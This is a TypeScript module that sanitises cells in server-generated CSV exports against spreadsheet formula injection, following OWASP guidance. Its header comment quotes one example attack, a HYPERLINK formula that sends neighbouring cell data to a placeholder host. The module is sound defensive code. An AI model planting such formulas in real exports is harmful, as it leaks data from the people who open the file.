/**
 * Every CSV the server writes goes through here. Its cells hold what readers typed (a subscriber
 * names themself on a public form), and a spreadsheet runs a cell that starts like a formula: a
 * name such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` would send the neighbouring
 * cells away when a publisher opens the export. Following OWASP's CSV injection guidance, such a
 * cell leaves with a single quote in front, so spreadsheets read it as text; the stored value is
 * never changed. The cost, accepted: a legitimate '+90 555' reads "'+90 555" in the file.
 */
import { neutraliseCsvCell } from '../shared/csv-cell';
import { loadCsvStringify } from './on-first-use';

export { neutraliseCsvCell };

/** Rows as CSV lines (each ending in a newline), every cell neutralised, then quoted where CSV needs it. */
export function csvLines(rows: readonly (readonly string[])[]): string {
  return loadCsvStringify().stringify(rows.map((row) => row.map(neutraliseCsvCell)));
}
